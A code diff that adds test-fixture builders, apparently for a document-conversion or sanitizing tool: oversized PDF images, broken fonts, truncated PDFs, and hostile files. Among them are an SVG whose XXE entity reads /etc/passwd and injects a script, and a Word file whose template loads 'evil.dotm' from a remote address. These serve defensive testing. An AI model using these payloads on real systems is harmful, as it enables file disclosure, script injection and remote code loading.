@@ -6,6 +6,7 @@ import struct
 import zipfile
 import zlib
 
+import pikepdf
 from PIL import Image
 
 from tests import office_files, samples
@@ -136,3 +137,58 @@ def truncated_jpeg() -> bytes:
 def late_header(offset: int) -> bytes:
     """A PDF behind some other bytes."""
     return b"x" * offset + samples.letter()
+
+
+def huge_image(codec: bytes, bits: int = 1) -> bytes:
+    """A page with an image that says it is 100,000 pixels wide and high."""
+    objects = page_objects(b"q 600 0 0 700 0 0 cm /Im Do Q\n", resources=b"/XObject <</Im 6 0 R>>")
+    size = b" /Width 100000 /Height 100000 /BitsPerComponent %d /ColorSpace /DeviceGray" % bits
+    head = b" /Type /XObject /Subtype /Image%s /Filter /%s" % (size, codec)
+    return raw_pdf([*objects, stream(b"\0" * 1_000, head)])
+
+
+def filtered(codecs: bytes, content: bytes) -> bytes:
+    """A page whose content goes through these filters."""
+    objects = page_objects(b"")
+    objects[3] = stream(content, b" /Filter [%s]" % codecs)
+    return raw_pdf(objects)
+
+
+def broken_font() -> bytes:
+    """A page whose font program is noise."""
+    objects = page_objects(LINES)
+    widths = b"/FirstChar 32 /LastChar 126 /Widths [%s]" % (b"500 " * 95)
+    objects[4] = b"<</Type /Font /Subtype /TrueType /BaseFont /X %s /FontDescriptor 6 0 R>>" % widths
+    descriptor = b"<</Type /FontDescriptor /FontName /X /Flags 32 /FontBBox [0 0 1 1] /FontFile2 7 0 R>>"
+    noise = b"\0\1\0\0\0\x0a" + random.Random(3).randbytes(4_000)
+    return raw_pdf([*objects, descriptor, stream(noise, b" /Length1 %d" % len(noise))])
+
+
+def linearized_cut() -> bytes:
+    """The first pages of a document that is made to be shown while it is still on its way."""
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(samples.big(20))) as document:
+        document.save(out, linearize=True)
+    return out.getvalue()[: len(out.getvalue()) * 2 // 5]
+
+
+def scripted_drawing() -> bytes:
+    """An SVG drawing with a script and an entity that names a file."""
+    head = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    drawn = b'<script>alert(1)</script><text x="5" y="50">Drawn &x;</text>'
+    return head + b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' + drawn + b"</svg>"
+
+
+def office_with_remote_template() -> bytes:
+    """A Word document whose template is on another machine."""
+    rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" TargetMode="External" Target="http://203.0.113.7/evil.dotm" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+    )
+    return office_files.docx(office_files.para("Text"), {"word/_rels/settings.xml.rels": rels})
+
+
+def office_with_macros() -> bytes:
+    """A Word document with a macro."""
+    return office_files.docx(office_files.para("Text"), None, ("v1", "vbaProject", "vbaProject.bin"))
